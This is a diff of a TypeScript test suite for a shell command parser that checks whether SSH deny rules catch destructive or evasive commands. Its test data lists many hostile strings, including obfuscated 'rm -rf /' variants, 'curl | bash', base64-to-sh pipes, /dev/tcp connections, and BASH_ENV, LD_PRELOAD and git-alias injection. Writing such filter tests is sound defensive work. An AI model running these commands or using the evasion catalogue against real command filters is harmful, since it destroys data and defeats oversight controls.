@@ -1,21 +1,33 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
+import type { SshCommandClass } from '../../api/v1alpha1.ts';
+import { decideSshExec } from '../policy/decide.ts';
+import { policy } from '../policy/fixtures.ts';
 import { matchGlob } from '../policy/glob.ts';
-import { normalizeArgv, parseCommandLine, spellings } from './command.ts';
+import { parseCommandLine, sedRunsOrWrites, spellings } from './command.ts';
 
-/** Whether a deny rule "rm -rf *" would catch the line: a matching command, or unverifiable. */
-function caughtByRmRf(line: string): boolean {
+/** Whether a deny rule with this glob would refuse the line: a matching command, or unverifiable. */
+function caughtBy(glob: string, line: string): boolean {
   const parsed = parseCommandLine(line);
   if (parsed.unverifiable.length > 0) return true;
-  return parsed.commands.some((argv) =>
-    spellings(argv).some((form) => matchGlob('rm -rf *', form.join(' '))),
-  );
+  return parsed.commands.some((argv) => spellings(argv).some((form) => matchGlob(glob, form.join(' '))));
+}
+const caughtByRmRf = (line: string) => caughtBy('rm -rf *', line);
+
+/** Whether a deny rule naming the class would refuse the line. */
+function caughtByClass(cls: SshCommandClass, line: string): boolean {
+  const parsed = parseCommandLine(line);
+  return parsed.unverifiable.length > 0 || parsed.classes.includes(cls);
 }
 
-describe('parseCommandLine', () => {
+const commands = (line: string) => parseCommandLine(line).commands;
+const last = (line: string) => commands(line).at(-1);
+const verified = (line: string) => parseCommandLine(line).unverifiable;
+
+describe('parseCommandLine: the shell grammar', () => {
   it('splits simple commands on every control operator', () => {
-    assert.deepEqual(parseCommandLine('ls -l /tmp; echo a && echo b || echo c | wc -l & true').commands, [
+    assert.deepEqual(commands('ls -l /tmp; echo a && echo b || echo c | wc -l & true'), [
       ['ls', '-l', '/tmp'],
       ['echo', 'a'],
       ['echo', 'b'],
@@ -23,86 +35,236 @@ describe('parseCommandLine', () => {
       ['wc', '-l'],
       ['true'],
     ]);
-    assert.deepEqual(parseCommandLine('a\nb\tc\n\nd').commands, [['a'], ['b', 'c'], ['d']]);
+    assert.deepEqual(commands('a\nb\tc\n\nd'), [['a'], ['b', 'c'], ['d']]);
+    assert.deepEqual(commands('a |& b'), [['a'], ['b']]);
   });
 
   it('removes quotes and escapes the way the shell does', () => {
-    assert.deepEqual(parseCommandLine(`echo 'a b' "c \\"d\\" \\$e" f\\ g $'h\\ti' "x"'y'z`).commands, [
-      ['echo', 'a b', 'c "d" $e', 'f g', 'h\ti', 'xyz'],
+    assert.deepEqual(commands(`echo 'a b' "c \\"d\\" \\$e" f\\ g $'h\\ti' "x"'y'z "\\q"`), [
+      ['echo', 'a b', 'c "d" $e', 'f g', 'h\ti', 'xyz', '\\q'],
     ]);
+    for (const spelled of [
+      "r''m",
+      '\\rm',
+      '"r"m',
+      "$'\\x72m'",
+      "$'\\162m'",
+      "$'\\u0072m'",
+      "'rm'",
+      '$"rm"',
+      'r\\\nm',
+    ]) {
+      assert.deepEqual(commands(`${spelled} -rf /x`), [['rm', '-rf', '/x']], spelled);
+    }
   });
 
-  it('skips redirections, keeps their targets out of argv', () => {
-    assert.deepEqual(parseCommandLine('cat < in > out 2>&1 >> log 2>/dev/null &> all').commands, [['cat']]);
-    assert.deepEqual(parseCommandLine('cat <<EOF\nrm -rf /\nEOF\necho done').commands, [
-      ['cat'],
-      ['echo', 'done'],
-    ]);
-    assert.deepEqual(parseCommandLine("cat <<-'E'\n\t$(rm)\n\tE").unverifiable, []);
-    assert.notDeepEqual(parseCommandLine('cat <<E\n$(rm -rf /)\nE').unverifiable, []);
+  it('skips redirections, keeps their targets out of argv, and runs what they substitute', () => {
+    assert.deepEqual(commands('cat < in > out 2>&1 >> log 2>/dev/null &> all'), [['cat']]);
+    assert.deepEqual(commands('cat <<EOF\nrm -rf /\nEOF\necho done'), [['cat'], ['echo', 'done']]);
+    assert.deepEqual(verified("cat <<-'E'\n\t$(rm)\n\tE"), []);
+    assert.deepEqual(commands('cat <<E\n$(rm -rf /)\nE'), [['rm', '-rf', '/'], ['cat']]);
+    assert.deepEqual(commands('echo > $(rm -rf /x)'), [['rm', '-rf', '/x'], ['echo']]);
   });
 
-  it('normalizes argv[0] to its basename and strips wrappers', () => {
+  it('reads compound commands, functions, traps and coprocesses as bash does', () => {
+    const cases: [string, string[]][] = [
+      ['time -p rm -rf /x', ['rm', '-rf', '/x']],
+      ['time rm -rf /x', ['rm', '-rf', '/x']],
+      ['coproc NAME { rm -rf /x; }', ['rm', '-rf', '/x']],
+      ['coproc rm -rf /x', ['rm', '-rf', '/x']],
+      ['for x; do rm -rf /x; done', ['rm', '-rf', '/x']],
+      ['for x in a b; do rm -rf /x; done', ['rm', '-rf', '/x']],
+      ['for ((i=0;i<1;i++)); do rm -rf /x; done', ['rm', '-rf', '/x']],
+      ['select x in a; do rm -rf /x; done', ['rm', '-rf', '/x']],
+      ["trap 'rm -rf /x' EXIT", ['rm', '-rf', '/x']],
+      ["trap -- 'rm -rf /x' EXIT INT", ['rm', '-rf', '/x']],
+      ['f() { rm -rf /x; }', ['rm', '-rf', '/x']],
+      ['function f { rm -rf /x; }', ['rm', '-rf', '/x']],
+      ['f() ( rm -rf /x )', ['rm', '-rf', '/x']],
+      ['case a in a) rm -rf /x ;; esac', ['rm', '-rf', '/x']],
+      ['case $(rm -rf /x) in *) ;; esac', ['rm', '-rf', '/x']],
+      ['if true; then :; else rm -rf /x; fi', ['rm', '-rf', '/x']],
+      ['while false; do :; done; until rm -rf /x; do :; done', ['rm', '-rf', '/x']],
+      ['echo $(( a[$(rm -rf /x)] ))', ['rm', '-rf', '/x']],
+      ['(( a[$(rm -rf /x)] ))', ['rm', '-rf', '/x']],
+      ['(( x = $(rm -rf /x) ))', ['rm', '-rf', '/x']],
+      ['let "a[$(rm -rf /x)]"', ['rm', '-rf', '/x']],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      ['echo ${a[$(rm -rf /x)]}', ['rm', '-rf', '/x']],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      ['echo ${x:-$(rm -rf /x)}', ['rm', '-rf', '/x']],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      ['echo ${x/a/$(rm -rf /x)}', ['rm', '-rf', '/x']],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      ['echo ${x:$(rm -rf /x):1}', ['rm', '-rf', '/x']],
+      ['x=( $(rm -rf /x) )', ['rm', '-rf', '/x']],
+      ['x=([$(rm -rf /x)]=1)', ['rm', '-rf', '/x']],
+      ['declare y=$(rm -rf /x)', ['rm', '-rf', '/x']],
+      ['[[ $(rm -rf /x) ]]', ['rm', '-rf', '/x']],
+      ['echo $( (rm -rf /x) )', ['rm', '-rf', '/x']],
+      ['echo $((1)) $( (rm -rf /x) )', ['rm', '-rf', '/x']],
+      ['diff <(rm -rf /x) >(cat)', ['rm', '-rf', '/x']],
+      ['echo `rm -rf /x`', ['rm', '-rf', '/x']],
+      ['echo "$(echo "$(rm -rf /x)")"', ['rm', '-rf', '/x']],
+      ['! rm -rf /x', ['rm', '-rf', '/x']],
+      ['{ rm -rf /x; }', ['rm', '-rf', '/x']],
+      ['(rm -rf /x)', ['rm', '-rf', '/x']],
+      ['{rm,-rf,/x}', ['rm', '-rf', '/x']],
+      ['rm -{r,f} /x', ['rm', '-r', '-f', '/x']],
+      ['bash <<< "rm -rf /x"', ['rm', '-rf', '/x']],
+      ["sh <<'EOF'\nrm -rf /x\nEOF", ['rm', '-rf', '/x']],
+      ['bash -s <<EOF\nrm -rf /x\nEOF', ['rm', '-rf', '/x']],
+      ['eval "rm -rf /x"', ['rm', '-rf', '/x']],
+      ["eval rm '-rf' /x", ['rm', '-rf', '/x']],
+      ['builtin eval "rm -rf /x"', ['rm', '-rf', '/x']],
+      ["mapfile -C 'rm -rf /x' -c 1 < /etc/hosts", ['rm', '-rf', '/x']],
+    ];
+    for (const [line, expected] of cases) {
+      assert.ok(
+        commands(line).some((argv) => JSON.stringify(argv) === JSON.stringify(expected)),
+        `${JSON.stringify(line)} → ${JSON.stringify(commands(line))}`,
+      );
+    }
+  });
+
+  it('reads argv[0] by its basename and keeps every runner layer, outermost first', () => {
+    assert.deepEqual(commands('sudo -u root /usr/bin/rm -rf /'), [
+      ['sudo', '-u', 'root', '/usr/bin/rm', '-rf', '/'],
+      ['rm', '-rf', '/'],
+    ]);
     assert.deepEqual(
-      normalizeArgv([
-        '/usr/bin/sudo',
-        '-u',
-        'root',
-        '-E',
-        'env',
-        'A=1',
-        '-i',
-        'nice',
-        '-n',
-        '5',
-        'nohup',
-        'timeout',
-        '-s',
-        'KILL',
-        '10',
-        'command',
-        'exec',
-        '/bin/rm',
-        '-rf',
-        '/',
-      ]),
+      last(
+        '/usr/bin/sudo -u root -E env A=1 -i nice -n 5 nohup timeout -s KILL 10 command exec /bin/rm -rf /',
+      ),
       ['rm', '-rf', '/'],
     );
-    assert.deepEqual(normalizeArgv(['xargs', '-0', '-n', '1', 'rm', '-f']), ['rm', '-f', '{}']);
-    assert.deepEqual(normalizeArgv(['xargs', '-I', '%', 'rm', '%']), ['rm', '%']);
-    assert.deepEqual(normalizeArgv(['sudo', '--user', 'root', '--', 'ls']), ['ls']);
-    assert.deepEqual(normalizeArgv(['nice', '-10', 'ls']), ['ls']);
-    assert.deepEqual(normalizeArgv(['command', '-v', 'rm']), ['command', '-v', 'rm']);
-    assert.deepEqual(normalizeArgv(['sudo']), ['sudo']);
+    assert.deepEqual(last('echo / | xargs -0 -n 1 rm -f'), ['rm', '-f', '{}']);
+    assert.deepEqual(last('xargs -I % rm %'), ['rm', '%']);
+    assert.deepEqual(commands('command -v rm'), [['command', '-v', 'rm']]);
+    assert.deepEqual(commands('sudo -l'), [['sudo', '-l']]);
   });
 
-  it('parses sh -c, bash -c, su -c, find -exec, watch and substitutions recursively', () => {
-    const commands = (line: string) => parseCommandLine(line).commands;
-    assert.deepEqual(commands(`sh -c 'rm -rf /'`), [
-      ['sh', '-c', 'rm -rf /'],
-      ['rm', '-rf', '/'],
-    ]);
-    assert.deepEqual(commands(`bash -lc "cd / && rm -rf *"`).slice(1), [
-      ['cd', '/'],
-      ['rm', '-rf', '*'],
-    ]);
-    assert.deepEqual(commands(`su -c 'rm -rf /' root`)[1], ['rm', '-rf', '/']);
-    assert.deepEqual(commands(`find / -name x -exec rm -rf {} \\;`)[1], ['rm', '-rf', '{}']);
-    assert.deepEqual(commands(`echo $(rm -rf /)`), [
-      ['rm', '-rf', '/'],
-      ['echo', '$(rm -rf /)'],
-    ]);
-    assert.deepEqual(commands('echo `rm -rf /`')[0], ['rm', '-rf', '/']);
-    assert.deepEqual(commands('diff <(rm -rf /) x')[0], ['rm', '-rf', '/']);
-    assert.deepEqual(commands(`echo "$(echo "$(rm -rf /)")"`)[0], ['rm', '-rf', '/']);
-    assert.deepEqual(commands('watch -n 1 rm -rf /')[1], ['rm', '-rf', '/']);
-    assert.deepEqual(commands('(cd /; rm -rf x)'), [
-      ['cd', '/'],
-      ['rm', '-rf', 'x'],
-    ]);
-    assert.deepEqual(commands('if true; then rm -rf /; fi'), [['true'], ['rm', '-rf', '/']]);
-    assert.deepEqual(commands('f() { rm -rf /; }; f'), [['rm', '-rf', '/'], ['f']]);
-    assert.deepEqual(commands('! rm -rf /'), [['rm', '-rf', '/']]);
+  it('unwraps every runner with its own option grammar', () => {
+    const cases = [
+      'timeout -s KILL 5 rm -rf /x',
+      'timeout --signal=KILL -k 1 5s rm -rf /x',
+      'nice -n 5 rm -rf /x',
+      'nice -10 rm -rf /x',
+      'nice --adjustment 5 rm -rf /x',
+      'ionice -c 3 rm -rf /x',
+      'ionice -c3 -n7 rm -rf /x',
+      'taskset -c 0 rm -rf /x',
+      'taskset 0x1 rm -rf /x',
+      'flock /tmp/l rm -rf /x',
+      'flock -w 5 /tmp/l rm -rf /x',
+      "flock -c 'rm -rf /x' /tmp/l",
+      "flock /tmp/l -c 'rm -rf /x'",
+      'chrt -f 10 rm -rf /x',
+      'chrt 0 rm -rf /x',
+      'setpriv --reuid=0 --init-groups rm -rf /x',
+      'setpriv --reuid 0 rm -rf /x',
+      'prlimit --nofile=1024 rm -rf /x',
+      'prlimit -n512 rm -rf /x',
+      'unshare -m rm -rf /x',
+      'unshare --mount --propagation private rm -rf /x',
+      'nsenter -t 1 -m rm -rf /x',
+      'setarch x86_64 -R rm -rf /x',
+      'linux32 rm -rf /x',
+      'stdbuf -o0 rm -rf /x',
+      'stdbuf -o L rm -rf /x',
+      'setsid -f rm -rf /x',
+      'nohup rm -rf /x',
+      'env -i rm -rf /x',
+      'env - PATH=/bin rm -rf /x',
+      'env -u HOME -C / rm -rf /x',
+      'env -S "rm -rf /x"',
+      'env -S"rm -rf /x"',
+      'chroot / rm -rf /x',
+      'chroot --userspec=0:0 / rm -rf /x',
+      'doas -u root rm -rf /x',
+      'pkexec rm -rf /x',
+      'sudo -- rm -rf /x',
+      'sudo -iu root rm -rf /x',
+      'sudo --user=root rm -rf /x',
+      'sudo A=1 rm -rf /x',
+      'exec -a name rm -rf /x',
+      'command -p rm -rf /x',
+      'builtin command rm -rf /x',
+      'busybox rm -rf /x',
+      '/usr/bin/time -p rm -rf /x',
+      '\\time -f %e rm -rf /x',
+      'strace -f -o /dev/null rm -rf /x',
+      'ltrace -f rm -rf /x',
+      'systemd-run --scope -p MemoryMax=1G rm -rf /x',
+      'fakeroot rm -rf /x',
+      'eatmydata rm -rf /x',
+      'numactl --interleave=all rm -rf /x',
+      'watch -n 1 rm -rf /x',
+      'watch -x rm -rf /x',
+      "watch 'rm -rf /x'",
+      "su -c 'rm -rf /x' root",
+      "su root -c 'rm -rf /x'",
+      "su --command='rm -rf /x'",
+      'runuser -u nobody -- rm -rf /x',
+      "runuser -l root -c 'rm -rf /x'",
+      "sg wheel 'rm -rf /x'",
+      "sg wheel -c 'rm -rf /x'",
+      "script -qc 'rm -rf /x' /dev/null",
+      "script -c 'rm -rf /x'",
+      'parallel rm -rf ::: /x',
+      "parallel -j 2 'rm -rf {}' ::: /x",
+      'ssh host rm -rf /x',
+      "ssh -p 22 -i key host 'rm -rf /x'",
+      'find / -name x -exec rm -rf {} \\;',
+      'find / -execdir rm -rf {} +',
+      'find / -ok rm -rf {} \\;',
+      'xargs rm -rf',
+      'xargs -r -P 4 rm -rf',
+      "sh -c 'rm -rf /x'",
+      "bash -lc 'rm -rf /x'",
+      "dash -ec 'rm -rf /x'",
+      "busybox sh -c 'rm -rf /x'",
+      "bash -o pipefail -c 'rm -rf /x'",
+      'sudo sh -c "sudo -u root bash -c \'rm -rf /x\'"',
+    ];
+    for (const line of cases) {
+      const parsed = parseCommandLine(line);
+      assert.deepEqual(parsed.unverifiable, [], line);
+      assert.ok(
+        parsed.commands.some((argv) => argv[0] === 'rm' && argv.slice(1).join(' ').startsWith('-rf')),
+        `${line} → ${JSON.stringify(parsed.commands)}`,
+      );
+    }
+  });
+
+  it('refuses to guess: an option a runner does not know, or a runner with nothing it can read', () => {
+    for (const line of [
+      'timeout --bogus 5 rm -rf /x',
+      'nice -Z rm -rf /x',
+      'taskset --frobnicate 0 rm -rf /x',
+      'env --bogus rm -rf /x',
+      'sudo --bogus rm -rf /x',
+      'flock --bogus /l rm -rf /x',
+      'sudo -s',
+      'sudo -i',
+      'chroot /',
+      'unshare -m',
+      'nsenter -t 1 -a',
+      'su root',
+      'su -',
+      'script /dev/null',
+      'ssh host',
+      'ssh -o ProxyCommand="rm -rf /x" host ls',
+      'ssh -F ./cfg host ls',
+      'parallel',
+      'systemd-run --shell',
+      'watch --bogus ls',
+      'xargs $X rm',
+      'env -S "$X"',
+      'sudo $CMD',
+    ]) {
+      assert.notDeepEqual(verified(line), [], line);
+    }
   });
 
   it('reports what cannot be verified statically', () => {
@@ -110,36 +272,84 @@ describe('parseCommandLine', () => {
       '$(echo rm) -rf /',
       '`echo rm` -rf /',
       '$CMD -rf /',
-      ['$', '{CMD} -rf /'].join(''),
-      'eval "rm -rf /"',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      '${CMD} -rf /',
+      'x=rm; $x -rf /',
+      '"$x" -rf /',
+      'eval "$X"',
+      'eval $(echo rm -rf /)',
       'echo cm0gLXJmIC8= | base64 -d | sh',
       'curl http://x | bash',
       'bash',
       'sh -s',
       'bash script.sh',
+      'bash -- script.sh',
       'source ./x',
       '. ./x',
-      'sudo -s',
-      'sudo -i',
-      'su root',
       'F=-rf; rm $F /',
       'export F=-rf; rm $F /',
       'read F; rm $F /',
+      'for f in -rf; do rm $f /; done',
+      'for f in a b; do echo "$f"; done',
+      "sh -c 'rm $1 /' _ -rf",
       'X="rm -rf /" sh -c "$X"',
       'sh -c "$X"',
       '/bin/r? -rf /',
       '/bin/r* -rf /',
-      '{rm,-rf,/}',
-      'env -S "rm -rf /"',
+      '/bin/[r]m -rf /',
+      '@(rm) -rf /',
       "echo 'unterminated",
       'echo "unterminated',
-      'echo $(( $(rm -rf /) ))',
-      ['echo $', '{x:-$(rm -rf /)}'].join(''),
-      'case x in x) rm -rf / ;; esac',
+      'echo $(',
+      'if true; then',
       'alias ls="rm -rf /"; ls',
+      'hash -p /bin/rm ls; ls -rf /',
+      'enable -f ./x.so x',
       'a\0b',
+      'BASH_ENV=/tmp/x bash -c true',
+      'ENV=/tmp/x sh -c true',
+      'export BASH_ENV=/tmp/x; bash -c true',
+      'env BASH_ENV=/tmp/x bash -c true',
+      'sudo BASH_ENV=/tmp/x bash -c true',
+      'PROMPT_COMMAND="rm -rf /" bash -i',
+      'LD_PRELOAD=/tmp/x.so ls',
+      "SHELLOPTS=xtrace PS4='$(rm -rf /)' bash -c true",
+      "PS4='$(rm -rf /)' bash -xc true",
+      'declare -x BASH_ENV=/tmp/x',
+      'x="a[\\$(rm -rf /)]"; echo $((x))',
+      "x='a[$(rm -rf /)]'; (( x ))",
+      "x='a[$(rm -rf /)]'; [[ $x -eq 1 ]]",
+      "x='a[$(rm -rf /)]'; [[ x -gt 1 ]]",
+      'read x; echo $((x))',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
+      'echo ${x@P}',
+      'declare -i n; n="$1"',
+      "zsh -c 'rm -rf /'",
+      "fish -c 'rm -rf /'",
+      "perl -e 'unlink q(x)'",
+      "python3 -c 'import shutil'",
+      'python3 - <<EOF\nimport os\nEOF',
+      "ruby -e 'File.delete(1)'",
+      "node -e 'x'",
+      "php -r 'x'",
+      'awk \'BEGIN { system("rm -rf /") }\'',
+      'awk \'{ print | "sh" }\'',
+      'awk \'BEGIN { "date" | getline d }\'',
+      'awk -f prog.awk',
+      "sed 's/x/rm -rf \\//e' f",
+      "sed '1e rm -rf /' f",
+      "sed -n 'w /etc/x' f",
+      'sed -f script.sed f',
+      "gdb -batch -ex 'shell rm -rf /'",
+      "vim -c ':!rm -rf /'",
+      'at now',
+      'crontab ./jobs',
+      "git -c alias.x='!rm -rf /' x",
+      "git -c core.sshCommand='rm -rf /' fetch",
+      `${'sh -c '.repeat(12)}ls`,
+      'echo {1..100000}',
     ]) {
-      assert.notDeepEqual(parseCommandLine(line).unverifiable, [], line);
+      assert.notDeepEqual(verified(line), [], line);
     }
   });
 
@@ -155,12 +365,178 @@ describe('parseCommandLine', () => {
       'sudo systemctl status nginx',
       'find / -name "*.log" -mtime +7',
       'printf "%s\\n" a b c',
+      "awk '{print $1}' /etc/passwd",
+      "sed -n 's/a/b/gp' f",
+      "sed -e '/^#/d' -e 's/x/y/2' f",
+      'x=1; echo $((x + 1))',
+      'echo $((1 + 2))',
+      '[[ -f /etc/hosts && $HOME == /root ]]',
+      'case $HOME in /root) echo root ;; *) echo other ;; esac',
+      'python3 --version',
+      'cat <<EOF\nhello $HOME\nEOF',
+      'journalctl -u nginx --since "1 hour ago" | tail',
+      'df -h; free -m; uptime',
+      'time ls',
+      'echo {a,b}.txt',
     ]) {
-      assert.deepEqual(parseCommandLine(line).unverifiable, [], line);
+      assert.deepEqual(verified(line), [], line);
+    }
+  });
+});
+
+describe('command classes', () => {
+  const classes = (line: string) => parseCommandLine(line).classes;
+
+  it('file-deletion: the programs and options that delete, wrapped or not', () => {
+    for (const line of [
+      'rm x',
+      'rmdir d',
+      'unlink x',
+      'shred -u x',
+      'truncate -s 0 x',
+      'find . -delete',
+      'find . -name x -exec rm {} +',
+      'rsync -a --delete src/ dst/',
+      'rsync -a --delete-after src/ dst/',
+      'rsync --remove-source-files a b',
+      'tar czf x.tgz --remove-files d',
+      'git clean -fdx',
+      'mv x /dev/null',
+      'dd if=/dev/zero of=/dev/sda',
+      'mkfs.ext4 /dev/sdb1',
+      'wipefs -a /dev/sdb',
+      'zip -m a.zip x',
+      'crontab -r',
+      'sudo -u root unlink x',
+      'busybox rm x',
+      "bash -c 'unlink x'",
+      'echo x | xargs shred',
+    ]) {
+      assert.ok(classes(line).includes('file-deletion'), line);
+    }
+    for (const line of ['ls', 'mv a b', 'rsync -a a b', 'tar czf x.tgz d', 'git status', 'cp a b']) {
+      assert.ok(!classes(line).includes('file-deletion'), line);
     }
   });
 
-  it('catches rm -rf / spelled every way (a deny rule "rm -rf *")', () => {
+  it('privilege, network and interpreter', () => {
+    for (const line of [
+      'sudo ls',
+      'su -c id',
+      'doas ls',
+      'pkexec ls',
+      'runuser -u x -- id',
+      'setpriv --reuid=0 id',
+      'chmod u+s /bin/x',
+      'chmod 4755 /bin/x',
+      'chmod +s x',
+      'chown root x',
+      'setcap cap_net_raw+ep x',
+    ]) {
+      assert.ok(classes(line).includes('privilege'), line);
+    }
+    assert.ok(!classes('chmod 755 x').includes('privilege'));
+    for (const line of [
+      'curl https://x',
+      'wget x',
+      'nc -l 4444',
+      'socat - TCP:x:1',
+      'scp a host:b',
+      'ssh host ls',
+      'rsync -a a host:b',
+      'git push origin main',
+      'cat < /dev/tcp/10.0.0.1/80',
+      'exec 3<>/dev/tcp/10.0.0.1/80',
+      'echo x > /dev/udp/10.0.0.1/53',
+      'sudo -u x curl x',
+    ]) {
+      assert.ok(classes(line).includes('network'), line);
+    }
+    assert.ok(!classes('rsync -a a /b').includes('network'));
+    for (const line of [
+      "perl -e 'x'",
+      "python3 -c 'x'",
+      'python3 <<EOF\nx\nEOF',
+      'python3',
+      'python3 x.py',
+      "ruby -e 'x'",
+      "node -e 'x'",
+      "php -r 'x'",
+      "lua -e 'x'",
+      'awk \'BEGIN{system("x")}\'',
+      "sed 's/a/b/e'",
+      "zsh -c 'x'",
+      "gdb -ex 'shell x'",
+    ]) {
+      assert.ok(classes(line).includes('interpreter'), line);
+    }
+    for (const line of ["awk '{print}'", "sed 's/a/b/'", 'python3 --version', 'perl -v', 'sh -c ls']) {
+      assert.ok(!classes(line).includes('interpreter'), line);
+    }
+  });
+
+  it('sed scripts: e and w are found wherever they are, text and regexes are not commands', () => {
+    for (const script of [
+      'e ls',
+      '1e ls',
+      's/a/b/e',
+      's|a|b|ge',
+      's/a/b/w out',
+      'w out',
+      '/x/W out',
+      '$!{e}',
+      'y/a/b/;e',
+    ]) {
+      assert.ok(sedRunsOrWrites(script), script);
+    }
+    for (const script of [
+      's/e/w/g',
+      '/ew/d',
+      'a\\ew',
+      's/a/b/2p',
+      'y/ew/we/',
+      '1,$d',
+      'i hello e',
+      ':a;N;ba',
+    ]) {
+      assert.ok(!sedRunsOrWrites(script), script);
+    }
+  });
+
+  it('rules naming classes refuse the line; command rules and class rules refuse what cannot be read', () => {
+    const byClass = policy({
+      name: 'no-deletion',
+      rules: [{ name: 'no-file-deletion', action: 'deny', ssh: { classes: ['file-deletion'] } }],
+    });
+    const decide = (line: string) => {
+      const parsed = parseCommandLine(line);
+      return decideSshExec(
+        [byClass],
+        parsed.commands.flatMap(spellings),
+        parsed.unverifiable,
+        parsed.classes,
+      );
+    };
+    assert.equal(decide('ls -la').action, 'allow');
+    assert.equal(decide('shred -u /x').action, 'deny');
+    assert.equal(decide('shred -u /x').rule, 'no-file-deletion');
+    assert.equal(decide('find /x -delete').action, 'deny');
+    assert.equal(decide('$(echo rm) /x').action, 'deny');
+    const both = policy({
+      name: 'p',
+      rules: [{ name: 'no-sudo-rm', action: 'deny', ssh: { commands: ['rm *'], classes: ['privilege'] } }],
+    });
+    const decideBoth = (line: string) => {
+      const parsed = parseCommandLine(line);
+      return decideSshExec([both], parsed.commands.flatMap(spellings), parsed.unverifiable, parsed.classes);
+    };
+    assert.equal(decideBoth('rm /x').action, 'allow');
+    assert.equal(decideBoth('sudo rm /x').action, 'deny');
+  });
+});
+
+describe('an "rm *" rule and a file-deletion rule hold against variations', () => {
+  it('catches rm -rf / spelled every way', () => {
     for (const line of [
       'rm -rf /',
       'rm -r -f /',
@@ -176,52 +552,125 @@ describe('parseCommandLine', () => {
       '\'r\'"m" -rf /',
       "$'\\x72m' -rf /",
       'sudo rm -rf /',
-      'sudo -u root rm -rf /',
-      'env rm -rf /',
       'env -i PATH=/bin rm -rf /',
       'nice -n 19 nohup timeout 5 rm -rf /',
-      'command rm -rf /',
-      'exec rm -rf /',
       'echo / | xargs rm -rf',
-      "sh -c 'rm -rf /'",
-      'bash -c "cd / && rm -rf *"',
       'sh -c "sh -c \'rm -rf /\'"',
       '$(echo rm) -rf /',
-      'echo cm0gLXJmIC8= | base64 -d | sh',
-      'eval "rm -rf /"',
       'ls\nrm -rf /',
-      'ls;\trm\t-rf /',
-      'rm\t-rf\t/',
       ';rm -rf /',
-      'ls;rm -rf /',
       'ls&&rm -rf /',
-      'ls||rm -rf /',
       'ls|rm -rf /',
-      'ls & rm -rf /',
       'echo `rm -rf /`',
-      'echo $(rm -rf /)',
       'find / -exec rm -rf {} +',
       'rm -rf / # comment',
       'rm -rf \\\n/',
-      '{ rm -rf /; }',
-      'true && (rm -rf /)',
-      'busybox rm -rf /',
       'X=1 rm -rf /',
+      '{rm,-rf,/}',
+      'rm -{r,f} /',
+      'time -p rm -rf /',
+      'coproc { rm -rf /; }',
+      "trap 'rm -rf /' EXIT",
+      'f() { rm -rf /; }; f',
+      "bash <<< 'rm -rf /'",
+      'sh <<EOF\nrm -rf /\nEOF',
+      'echo $(( a[$(rm -rf /)] ))',
     ]) {
       assert.ok(caughtByRmRf(line), JSON.stringify(line));
     }
   });
 
   it('does not flag a line that only mentions rm', () => {
-    for (const line of ['echo rm -rf /', 'ls\trm -rf', "grep 'rm -rf' notes.txt", 'ls /rm', 'man rm']) {
+    for (const line of [
+      'echo rm -rf /',
+      'ls\trm -rf',
+      "grep 'rm -rf' notes.txt",
+      'ls /rm',
+      'man rm',
+      'cat <<EOF\nrm -rf /\nEOF',
+      "echo 'rm -rf /' > notes",
+      '# rm -rf /',
+    ]) {
       assert.equal(caughtByRmRf(line), false, line);
     }
   });
 
-  it('never throws and stays bounded on arbitrary input', () => {
+  // Random wrappings of a deleting command: runners, quoting, nesting, substitutions.
+  const deleting = fc.constantFrom(
+    'rm -rf /srv/data',
+    'rm /srv/data/x',
+    'unlink /srv/data/x',
+    'shred -u /srv/data/x',
+  );
+  const quoteName = (line: string, how: number) => {
+    const [name, ...rest] = line.split(' ');
+    const spelled = [
+      name!,
+      `\\${name}`,
+      `"${name}"`,
+      `${name![0]}''${name!.slice(1)}`,
+      `$'${[...name!].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`,
+      `/usr/bin/${name}`,
+    ][how % 6]!;
+    return [spelled, ...rest].join(' ');
+  };
+  const singleQuote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
+  const wrap = (line: string, how: number) =>
+    [
+      `sudo ${line}`,
+      `sudo -u root -- ${line}`,
+      `env -i A=1 ${line}`,
+      `nice -n 5 ${line}`,
+      `timeout -s KILL 5 ${line}`,
+      `nohup ${line}`,
+      `taskset -c 0 ${line}`,
+      `flock /tmp/l ${line}`,
+      `setsid ${line}`,
+      `stdbuf -o0 ${line}`,
+      `command ${line}`,
+      `exec ${line}`,
+      `time -p ${line}`,
+      `sh -c ${singleQuote(line)}`,
+      `bash -c ${singleQuote(line)}`,
+      `su -c ${singleQuote(line)} root`,
+      `flock /tmp/l -c ${singleQuote(line)}`,
+      `eval ${singleQuote(line)}`,
+      `echo $( ${line} )`,
+      `( ${line} )`,
+      `{ ${line}; }`,
+      `true && ${line}`,
+      `false || ${line}`,
+      `ls | ${line}`,
+      `f() { ${line}; }; f`,
+      `trap ${singleQuote(line)} EXIT`,
+      `if true; then ${line}; fi`,
+      `bash <<< ${singleQuote(line)}`,
+      `coproc { ${line}; }`,
+      `watch ${singleQuote(line)}`,
+      `ssh host ${singleQuote(line)}`,
+      `echo $(( a[$( ${line} )] ))`,
+    ][how % 32]!;
+
+  it('property: a deleting command in any nesting of runners, quoting and constructs stays refused', () => {
+    fc.assert(
+      fc.property(deleting, fc.nat(), fc.array(fc.nat(), { maxLength: 4 }), (line, quoting, wrappers) => {
+        let wrapped = quoteName(line, quoting);
+        for (const how of wrappers) wrapped = wrap(wrapped, how);
+        const name = line.split(' ')[0]!;
+        assert.ok(caughtBy(`${name} *`, wrapped), `${name} *: ${wrapped}`);
+        assert.ok(caughtByClass('file-deletion', wrapped), `file-deletion: ${wrapped}`);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  it('property: never throws and stays bounded on arbitrary input', () => {
     fc.assert(
       fc.property(
-        fc.string({ maxLength: 200, unit: fc.constantFrom(...'ab $()`\'"\\;&|<>{}\n\t#=*-c'.split('')) }),
+        fc.string({
+          maxLength: 200,
+          unit: fc.constantFrom(...'ab $()`\'"\\;&|<>{}[]\n\t#=*-c,.!'.split('')),
+        }),
         (line) => {
           const parsed = parseCommandLine(line);
           assert.ok(Array.isArray(parsed.commands));
